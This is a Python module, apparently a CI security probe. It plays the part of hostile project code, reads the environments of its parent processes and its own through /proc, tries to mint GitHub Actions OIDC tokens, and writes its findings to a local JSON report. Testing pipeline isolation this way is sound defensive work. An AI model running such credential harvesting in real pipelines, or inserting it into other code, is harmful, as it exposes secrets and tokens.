"""Hunt for credentials the way hostile project code would, and write down what was found.

Walks ``/proc/<ppid>`` up to pid 1 reading each ancestor's ``environ`` (and notes which it
could not read), dumps its own ``os.environ``, and tries to mint an OIDC token with any
``ACTIONS_ID_TOKEN_REQUEST_URL``/``_TOKEN`` it found. The report goes to the directory named
in ``spy_target.txt`` next to this file (the test writes it), one JSON file per run.
"""

from __future__ import annotations

import json
import os
import urllib.request
from pathlib import Path


def _ppid(pid: int) -> int:
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat.rsplit(")", 1)[1].split()[1])


def _environ(pid: int) -> dict[str, str] | str:
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError as e:
        return type(e).__name__
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _cmdline(pid: int) -> str:
    try:
        return (
            Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        )
    except OSError as e:
        return type(e).__name__


def _mint(env: dict[str, str], where: str) -> dict[str, object]:
    """Ask the runner's token endpoint for an ID token with what ``env`` holds."""
    url, token = env["ACTIONS_ID_TOKEN_REQUEST_URL"], env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    attempt: dict[str, object] = {"from": where, "minted": False}
    request = urllib.request.Request(url, headers={"Authorization": f"bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            body = response.read().decode(errors="replace")
        attempt["minted"] = '"value"' in body
        attempt["answer"] = body[:200]
    except (OSError, ValueError) as e:
        attempt["answer"] = f"failed: {e}"
    return attempt


def hunt(label: str) -> dict[str, object]:
    """What this process can find: every ancestor's environ, its own, an OIDC token."""
    ancestors = []
    pid = os.getpid()
    while pid > 1:
        try:
            pid = _ppid(pid)
        except (OSError, ValueError, IndexError):
            break
        ancestors.append({"pid": pid, "cmdline": _cmdline(pid), "environ": _environ(pid)})
    found: dict[str, object] = {
        "label": label,
        "pid": os.getpid(),
        "uid": os.getuid(),
        "cmdline": _cmdline(os.getpid()),
        "own": dict(os.environ),
        "ancestors": ancestors,
    }
    # every environment it can read that names a token endpoint: its own, then its ancestors'
    envs = [("own", dict(os.environ))] + [
        (str(a["pid"]), a["environ"]) for a in ancestors if isinstance(a["environ"], dict)
    ]
    attempts = [_mint(env, where) for where, env in envs if env.get("ACTIONS_ID_TOKEN_REQUEST_URL")]
    found["oidc"] = attempts
    found["oidc_minted"] = any(attempt["minted"] for attempt in attempts)
    return found


def run(label: str) -> None:
    """Hunt and write the findings down; never raise (the test must pass, the hook build)."""
    target = Path(__file__).with_name("spy_target.txt")
    if not target.is_file():
        return
    try:
        found = hunt(label)
    except Exception as e:  # noqa: BLE001 - a spy that breaks the release proves nothing
        found = {"label": label, "pid": os.getpid(), "error": repr(e)}
    out = Path(target.read_text().strip())
    (out / f"{label}-{os.getpid()}.json").write_text(json.dumps(found, indent=1))
